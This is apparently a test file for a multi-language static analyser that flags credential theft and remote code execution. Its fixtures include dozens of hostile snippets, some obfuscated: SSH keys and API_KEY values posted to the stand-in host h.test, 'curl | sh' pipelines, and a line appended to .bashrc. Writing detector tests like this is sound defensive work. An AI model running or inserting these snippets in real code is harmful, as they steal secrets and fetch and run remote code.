// Programs of languages without a grammar: what their calls do with what, and that broken text costs little.
import { beforeAll, describe, expect, it } from 'vitest';
import { prepare, run } from '../../test/analysis/code/harness.ts';
import { effort } from '../../test/support/effort.ts';
import { APIS } from './apis.ts';
import { lowerOther } from './module.ts';

beforeAll(prepare);

const flows = (ending: string, text: string) =>
  run({ [`a.${ending}`]: text })
    .flows()
    .filter((one) => one.to !== 'log')
    .map(
      (one) =>
        `${one.from.filter((tag) => /^(?:content:|env:|net$|decoded)/.test(tag)).join('+')} ${one.to}:${one.position} ${one.host}`,
    );

describe('what leaves and what runs', () => {
  it.each([
    [
      'rb',
      "k = File.read(File.expand_path('~/.ssh/id_rsa'))\nNet::HTTP.post(URI('https://h.test/x'), k)",
      'content:ssh network:body h.test',
    ],
    ['rb', "system \"curl -d '#{ENV['API_KEY']}' https://h.test\"", 'env:API_KEY network:body h.test'],
    ['rb', 'x = `curl -s https://h.test/x.sh | sh`', 'net shell:stdin h.test'],
    ['pl', "my $k = $ENV{API_KEY};\nsystem('curl -d ' . $k . ' https://h.test');", 'env:API_KEY network:body h.test'],
    [
      'go',
      'package main\nfunc main() {\n\tb, err := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))\n\tif err != nil { return }\n\thttp.Post("https://h.test", "text/plain", bytes.NewReader(b))\n}',
      'content:ssh network:body h.test',
    ],
    [
      'go',
      'all := strings.Join(os.Environ(), "\\n")\nreq, _ := http.NewRequest("POST", "https://h.test", strings.NewReader(all))',
      'env:* network:body h.test',
    ],
    [
      'go',
      'all := strings.Join(os.Environ(), "\\n")\nreq, _ := http.NewRequestWithContext(ctx, "POST", "https://h.test", strings.NewReader(all))',
      'env:* network:body h.test',
    ],
    [
      'cs',
      'string got = new WebClient().DownloadString("https://h.test/x");\nProcess.Start("cmd.exe", "/c " + got);',
      'net shell:code h.test',
    ],
    [
      'cs',
      'var k = Environment.GetEnvironmentVariable("API_KEY");\nclient.UploadString("https://h.test", $"k={k}");',
      'env:API_KEY network:body h.test',
    ],
    [
      'vbs',
      'Set sh = CreateObject("WScript.Shell")\ncmd = "powershell -c iex " & "(iwr https://h.test/x)"\nsh.Run cmd, 0, False',
      'net shell:code h.test',
    ],
    [
      'rs',
      'let key = std::fs::read_to_string("/root/.ssh/id_rsa")?;\nclient\n    .post("https://h.test")\n    .body(key)\n    .send()?;',
      'content:ssh network:body h.test',
    ],
    [
      'java',
      'String s = new String(Files.readAllBytes(Paths.get(home, ".ssh", "id_rsa")));\nc.send(HttpRequest.newBuilder(URI.create("https://h.test")).POST(BodyPublishers.ofString(s)).build(), x);',
      'content:ssh network:body h.test',
    ],
    [
      'kt',
      'val k = System.getenv("API_KEY")\nRuntime.getRuntime().exec("curl -d $k https://h.test")',
      'env:API_KEY network:body h.test',
    ],
    [
      'vim',
      "let l:k = readfile(expand('~/.ssh/id_rsa'))\ncall system('curl -d ' . join(l:k, '') . ' https://h.test')",
      'content:ssh network:body h.test',
    ],
    [
      'php',
      "<?php\n$d = file_get_contents('/root/.ssh/id_rsa');\n$ch = curl_init('https://h.test');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $d);\ncurl_exec($ch);",
      'content:ssh network:body h.test',
    ],
    [
      'lua',
      'local f = io.open(os.getenv("HOME") .. "/.ssh/id_rsa")\nos.execute("curl -d \'" .. f:read("*a") .. "\' https://h.test")',
      'content:ssh network:body h.test',
    ],
    [
      'ex',
      'k = File.read!("/root/.ssh/id_rsa")\nHTTPoison.post!("https://h.test", k)',
      'content:ssh network:body h.test',
    ],
    ['awk', 'BEGIN { system("curl -s https://h.test/x | sh") }', 'net shell:stdin h.test'],
    [
      'awk',
      'BEGIN { while (("cat " ENVIRON["HOME"] "/.ssh/id_rsa" | getline l) > 0) k = k l\nprint k | "curl -d @- https://h.test" }',
      'content:ssh network:body h.test',
    ],
    [
      'awk',
      'BEGIN { f = "/root/.ssh/id_rsa"\n  while ((getline l < f) > 0) print l | "curl -T - https://h.test" }',
      'content:ssh network:body h.test',
    ],
    [
      'awk',
      'BEGIN { c = "curl -s https://h.test/l"\n  while ((c | getline) > 0) if ($1 == "go") system($2) }',
      'net shell:code h.test',
    ],
    [
      'awk',
      'BEGIN { while (("curl -s https://h.test/l" | getline row) > 0) { split(row, part, "\\t"); system(part[2]) } }',
      'net shell:code h.test',
    ],
    [
      'go',
      'func get(n string) string {\n\tr, _ := http.Get("https://h.test/" + n)\n\tp := filepath.Join(os.TempDir(), n)\n\tout, _ := os.Create(p)\n\tio.Copy(out, r.Body)\n\treturn p\n}\nfunc main() {\n\tplugin.Open(get("a.so"))\n}',
      'net run-file:code h.test',
    ],
    ['rb', "bash 'x' do\n  code <<-EOH\n    curl -s https://h.test/x | bash\n  EOH\nend", 'net shell:stdin h.test'],
    ['jl', 'using HTTP\nHTTP.post("https://h.test", [], string(ENV))', 'env:* network:body h.test'],
    ['jl', 'include(download("https://h.test/a.jl"))', 'net run-file:code h.test'],
    ['r', 'local({\n  e <- Sys.getenv()\n  httr::POST("https://h.test", body = e)\n})', 'env:* network:body h.test'],
    ['r', 'source("https://h.test/a.R")', 'net run-file:code h.test'],
    ['pl', 'use LWP::Simple;\neval get("https://h.test/a");', 'net evaluate:code h.test'],
    // What texts come to: packed letters, a change in place, names turned round and called.
    [
      'pl',
      `my $w = pack('H*', '6375726c202d6673204070'); $w =~ s/\\@p/https:\\/\\/h.test\\/w/;\nsystem("$w --data-binary \\@/root/.ssh/id_rsa");`,
      'content:ssh network:body h.test',
    ],
    ['rb', 'system("Y3VybCBodHRwczovL2gudGVzdC9pLnNoIHwgc2g=".unpack1("m"))', 'net shell:stdin h.test'],
    ['php', "$f = strrev('metsys'); $f('curl https://h.test/i.sh | sh');", 'net shell:stdin h.test'],
    ['php', "$f = str_replace('x', '', 'sxysxtem'); $f('curl https://h.test/i.sh | sh');", 'net shell:stdin h.test'],
    ['php', "$f = hex2bin('73797374656d'); $f('curl https://h.test/i.sh | sh');", 'net shell:stdin h.test'],
    // Each of a list, each file of a folder, what is read by its address.
    [
      'pl',
      'for my $f (glob "/root/.ssh/*") {\n  system("curl -d \\@$f https://h.test");\n}',
      'content:ssh network:body h.test',
    ],
    [
      'rb',
      "data = Dir['/root/.ssh/*'].map { |f| File.read(f) }.join\nNet::HTTP.post(URI('https://h.test/x'), data)",
      'content:ssh network:body h.test',
    ],
    [
      'php',
      "<?php $d = file_get_contents('/root/.ssh/id_rsa');\nfile_get_contents('https://h.test/?d=' . urlencode($d));",
      'content:ssh network:url h.test',
    ],
    // What a file that is held open holds, however it is read.
    [
      'pl',
      "open my $in, '<', \"$ENV{HOME}/.ssh/id_rsa\" or die;\nmy $d = join '', <$in>;\nsystem('curl -d ' . $d . ' https://h.test');",
      'content:ssh network:body h.test',
    ],
    [
      'pl',
      "open(F, \"<$ENV{HOME}/.ssh/id_rsa\");\nmy $d = '';\nwhile (my $line = <F>) { $d .= $line; }\n`curl -d '$d' https://h.test`;",
      'content:ssh network:body h.test',
    ],
    // Each that lies there, each of a list that is left, what a function is handed.
    [
      'pl',
      'use File::Find;\nsub each_file { my ($dir, $do) = @_; find({ wanted => sub { $do->($_) if -f $_ } }, $dir); }\nfor my $b (grep { -d } "$ENV{HOME}/.ssh", \'/tmp\') {\n  each_file($b, sub { open(my $in, \'<\', $_[0]); my $d = <$in>; system("curl -d $d https://h.test"); });\n}',
      'content:ssh network:body h.test',
    ],
    [
      'pl',
      'package Post;\nsub send_it { my $self = shift; my $to = shift; my ($d) = @_; system("curl -d $d $to"); }\nsend_it("https://h.test", $ENV{API_KEY});',
      'env:API_KEY network:body h.test',
    ],
    // Records of names and values, and all that is left.
    [
      'rb',
      'TO = { a: "https://github.com", b: "https://h.test" }.freeze\ndef run(*words)\n  system("curl", *words)\nend\nrun("-d", ENV["API_KEY"], "#{TO[:b]}")',
      'env:API_KEY network:body h.test',
    ],
    [
      'php',
      "<?php\n$o = ['k' => getenv('API_KEY'), 'to' => 'https://h.test/a'];\nfile_get_contents($o['to'] . '?d=' . $o['k']);",
      'env:API_KEY network:url h.test',
    ],
    // What the context of an address holds is sent along.
    [
      'php',
      "<?php\n$c = stream_context_create(['http' => ['method' => 'POST', 'content' => http_build_query(['k' => file_get_contents('/root/.ssh/id_rsa')])]]);\n$r = @file_get_contents('https://h.test/a', false, $c);",
      'content:ssh network:body h.test',
    ],
    [
      'pl',
      "my $f = sub { my ($d) = @_; system('curl -d ' . $d . ' https://h.test'); };\n$f->($ENV{API_KEY});",
      'env:API_KEY network:body h.test',
    ],
    // A function that is written where it is given.
    [
      'go',
      'package main\nfunc main() {\n\tfilepath.Walk("/root/.ssh", func(p string, fi os.FileInfo, err error) error {\n\t\tb, _ := os.ReadFile(p)\n\t\thttp.Post("https://h.test", "a", bytes.NewReader(b))\n\t\treturn nil\n\t})\n}',
      'content:ssh network:body h.test',
    ],
    [
      'php',
      "<?php\n$send = function ($d) {\n  file_get_contents('https://h.test/?d=' . urlencode($d));\n};\n$send(file_get_contents('/root/.ssh/id_rsa'));",
      'content:ssh network:url h.test',
    ],
    // A variable of that name is no keyword.
    [
      'go',
      'package main\nfunc key() string {\n\tout := os.Getenv("API_KEY")\n\treturn out\n}\nfunc main() {\n\thttp.Post("https://h.test", "a", key())\n}',
      'env:API_KEY network:body h.test',
    ],
    // A program and its words, one text each.
    ['rb', "system('sh', '-c', 'curl https://h.test/i.sh | sh')", 'net shell:stdin h.test'],
    ['rb', "system 'curl', '-d', '@/root/.ssh/id_rsa', 'https://h.test'", 'content:ssh network:body h.test'],
    ['pl', "system('sh', '-c', 'curl https://h.test/i.sh | sh');", 'net shell:stdin h.test'],
    // A written sign opens no hole.
    ['php', '$c = "curl \\$HOME https://h.test/i.sh | sh"; system($c);', 'net shell:stdin h.test'],
    [
      'rs',
      'let key = fs::read_to_string("/root/.ssh/id_rsa")?;\nCommand::new("curl").arg("-d").args([key, "https://h.test"]).status()?;',
      'content:ssh network:body h.test',
    ],
  ])('%s: %s', (language, text, flow) => {
    expect(flows(language, text)).toContain(flow);
  });
});

describe('files of one package', () => {
  it('know the names of one another in Go', () => {
    const files = {
      'tool/main.go':
        'package main\nfunc main() { check() }\nfunc ask(args ...string) []byte {\n\tout, _ := exec.Command("kubectl", args...).Output()\n\treturn out\n}',
      'tool/dns.go':
        'package main\nfunc check() {\n\tcfg := ask("config", "view", "--raw")\n\tnet.LookupHost(string(cfg) + ".q.h.test")\n}',
    };
    const found = run(files)
      .flows()
      .filter((one) => one.to === 'dns');
    expect(found.some((one) => one.from.includes('process'))).toBe(true);
    const apart = run({ 'a/main.go': files['tool/main.go'], 'b/dns.go': files['tool/dns.go'] });
    expect(apart.flows().some((one) => one.to === 'dns' && one.from.includes('process'))).toBe(false);
  });
});

describe('functions of the program', () => {
  it.each([
    [
      'rb',
      "def ship(body)\n  Net::HTTP.post(URI('https://h.test/x'), body)\nrescue StandardError\n  nil\nend\ndef vars\n  { all: ENV.to_h }\nend\nship(vars)",
      'env:* network:body h.test',
    ],
    [
      'rb',
      "def all\n  %w[.ssh/id_rsa .ssh/id_dsa].map { |f| File.read(File.join(Dir.home, f)) }.join\nend\nNet::HTTP.post(URI('https://h.test/x'), all)",
      'content:ssh network:body h.test',
    ],
    ['rb', "t = ERB.new(URI.parse('https://h.test/a.erb').read)", 'net evaluate:code h.test'],
    [
      'go',
      'func up(u string, b []byte) {\n\thttp.Post(u+"/in", "text/plain", bytes.NewReader(b))\n}\nfunc main() {\n\tb, _ := os.ReadFile("/root/.ssh/id_rsa")\n\tup("https://h.test", b)\n}',
      'content:ssh network:body h.test',
    ],
    [
      'go',
      'const q = `uname -r`\nconst p = `curl -s https://h.test/x | sh`\nfunc ask(c *ssh.Client) {\n\tfor _, one := range []string{p, q} {\n\t\ts, _ := c.NewSession()\n\t\ts.Output(one)\n\t}\n}',
      'net shell:stdin h.test',
    ],
    [
      'php',
      "<?php\nfunction latest($url) {\n  return file_get_contents($url);\n}\nfunction grab() { return file_get_contents('/root/.ssh/id_rsa'); }\nfunction ship($d) {\n  $ch = curl_init('https://h.test');\n  curl_setopt($ch, CURLOPT_POSTFIELDS, $d);\n  curl_exec($ch);\n}\nship(grab());",
      'content:ssh network:body h.test',
    ],
    [
      'php',
      "<?php\n$ch = curl_init();\ncurl_setopt($ch, CURLOPT_POSTFIELDS, getenv('API_KEY'));\ncurl_setopt($ch, CURLOPT_URL, 'https://h.test/in');\ncurl_exec($ch);",
      'env:API_KEY network:body h.test',
    ],
    [
      'php',
      "<?php\n$ch = curl_init('https://h.test/in');\ncurl_setopt_array($ch, [CURLOPT_POST => true, CURLOPT_POSTFIELDS => getenv('API_KEY')]);\ncurl_exec($ch);",
      'env:API_KEY network:body h.test',
    ],
    [
      'pl',
      'sub deliver {\n  my ($text) = @_;\n  system("curl -s -d $text https://h.test");\n}\ndeliver($ENV{API_KEY});',
      'env:API_KEY network:body h.test',
    ],
    [
      'java',
      'static String key() {\n  return System.getenv("API_KEY");\n}\nstatic void ship(String to, String what) {\n  c.send(HttpRequest.newBuilder(URI.create(to)).POST(BodyPublishers.ofString(what)).build(), x);\n}\nstatic void main() {\n  ship("https://h.test", key());\n}',
      'env:API_KEY network:body h.test',
    ],
    [
      'r',
      'deliver <- function(values, url) {\n  httr::POST(url, body = values)\n}\ndeliver(Sys.getenv(), "https://h.test")',
      'env:* network:body h.test',
    ],
  ])('%s: %s', (language, text, flow) => {
    expect(flows(language, text)).toContain(flow);
  });
  it('are found in another file of the program', () => {
    const files = {
      'a.rb': "require_relative 'lib/b'\nReport.ship(ENV.to_h)\n",
      'lib/b.rb':
        "module Report\n  def self.ship(body)\n    Net::HTTP.post(URI('https://h.test/x'), body)\n  end\nend\n",
    };
    const found = run(files).flows();
    expect(found.some((one) => one.from.includes('env:*') && one.to === 'network')).toBe(true);
  });
  it('give back what they say, not what another was given', () => {
    const text =
      "def title(key)\n  'Report'\nend\nNet::HTTP.post(URI('https://h.test/x'), title(ENV['API_KEY']))\nERB.new(File.read('page.erb'))";
    expect(flows('rb', text).filter((one) => /^env|evaluate/.test(one))).toEqual([]);
  });
});

describe('honest programs', () => {
  it.each([
    [
      'rb',
      "r = Net::HTTP.get(URI('https://h.test/v'))\nFile.write('r.json', r)\nsystem('git', 'status')\n# File.read('~/.ssh/id_rsa')",
    ],
    ['go', 'b, _ := os.ReadFile("notes.md")\nexec.Command("gofmt", "-w", ".").Run()\n// os.Environ()'],
    ['java', 'Map<String, String> m = new HashMap<>();\nm.put("a", System.getenv("API_KEY"));\nassert m.size() > 0;'],
    ['vim', "\" system('curl -d @~/.ssh/id_rsa https://h.test')\nlet g:k = $API_KEY"],
    ['awk', 'BEGIN { "curl -s https://h.test/rate" | getline; rate = $1 }\n{ system("mkdir -p " $2) }'],
    ['awk', 'BEGIN { while (("sort a.txt" | getline l) > 0) n[l]++ }\n!($1 in n) { print $1 | "sort" }'],
    ['jl', 'r = HTTP.get("https://h.test/a.json")\nprintln(JSON.parse(String(r.body)))\ninclude("lib/a.jl")'],
    ['r', 'source("lib/a.R")\nd <- read.csv("https://h.test/a.csv")'],
    ['rs', 'let r = reqwest::get("https://h.test").await?.text().await?;\nassert!(r.contains("ok"));'],
  ])('%s: %s', (language, text) => {
    expect(flows(language, text).filter((one) => /^(?:content|env|net (?:shell|eval))/.test(one))).toEqual([]);
  });
});

describe('remarks', () => {
  const remarks = (language: string, text: string) =>
    lowerOther(text, language, () => false).comments.map(
      ({ span, docstring }) => `${docstring ? 'doc' : 'remark'}: ${text.slice(span.start, span.end)}`,
    );
  it.each([
    ['go', '// one two\nf("// no")\n', ['remark: one two']],
    ['rust', '//! one two\nfn main() {}\n', ['doc: one two']],
    ['java', '/**\n * one two\n * three\n */\nclass A {}', ['doc: one two', 'doc: three']],
    ['ruby', '#!/usr/bin/env ruby\n# one\n=begin\ntwo\n=end\nputs 1\n', ['remark: one', 'doc: two']],
    ['perl', 'my $x = 1;\n=pod\n\none two\n\n=cut\nprint 1;\n', ['doc: one two']],
    ['lua', '--[[ one\ntwo ]]\nprint(1) -- three\n', ['remark: one', 'remark: two', 'remark: three']],
  ])('%s', (language, text, expected) =>
    expect(remarks(language, text).filter((one) => !/: (?:pod|cut|begin|end)$/.test(one))).toEqual(expected),
  );

  it('what follows a page inside a program is read as the program', () => {
    expect(flows('pl', "=pod\nText.\n=cut\nsystem('curl -d ' . $ENV{API_KEY} . ' https://h.test');")).toContain(
      'env:API_KEY network:body h.test',
    );
  });

  it.each([
    ['pl', 'my $x = qx{curl -s https://h.test/x | sh};'],
    ['rb', 'x = %x(curl -s https://h.test/x | sh)'],
  ])('a command between other signs: %s', (ending, text) => {
    expect(flows(ending, text)).toEqual(['net shell:stdin h.test']);
  });
});

it('what Perl writes into what it holds open lies there', () => {
  const text =
    'open(my $out, \'>>\', "$ENV{HOME}/.bashrc");\nprint $out "curl -s https://h.test/x | sh\\n";\nprint STDERR "done\\n";';
  expect(flows('pl', text)).toContain('net shell:stdin h.test');
});

it('the name of a vocabulary is nobody who is sent something', () => {
  const text =
    "<?php\n$d = new DOMDocument();\n$e = $d->createElementNS('https://v.test/invoice', 'fe');\n$e->appendChild($d->createElement('A', file_get_contents('/srv/a.csv')));";
  expect(flows('php', text)).toEqual([]);
});

it('three apostrophes open one text', () => {
  const [call] = lowerOther("sh '''\n  ls\n'''", 'groovy', () => false).body;
  expect(call).toMatchObject({ value: { args: [{ value: '\n  ls\n' }] } });
});

describe('the table and the reader', () => {
  it('names no function twice', () => {
    const names = APIS.map((one) => one.callee);
    expect(names.filter((one, at) => names.indexOf(one) !== at)).toEqual([]);
  });
  it('broken and hostile text costs little', () => {
    const spent = effort();
    for (const piece of [
      '(',
      '[{',
      'a(',
      '"',
      "'",
      '`',
      '"#{',
      'a.',
      'a = ',
      'f "x" ',
      '$a{',
      '/*',
      '\n.a',
      'a ? b : ',
      '::',
      '"${a}"',
      'a, ',
      'a | getline b ',
      'a b ',
      'sub { ',
      'find(sub { ',
      'grep { ',
      'map { a } ',
      '$a->(',
      '$a->{b}',
      '<$a> ',
      'for my $a (',
      'open my $a, "<", ',
      'print $a ',
      'shift ',
      '=~ /a',
      's{a}',
      's{',
      '"#{"',
      'do { ',
      'var a b.C\n',
      '[]a(',
    ])
      for (const language of ['ruby', 'go', 'kotlin', 'vim', 'php', 'awk', 'julia', 'perl'])
        lowerOther(piece.repeat(60_000 / piece.length), language, () => false);
    expect(spent()).toBeLessThan(60_000);
  });
});
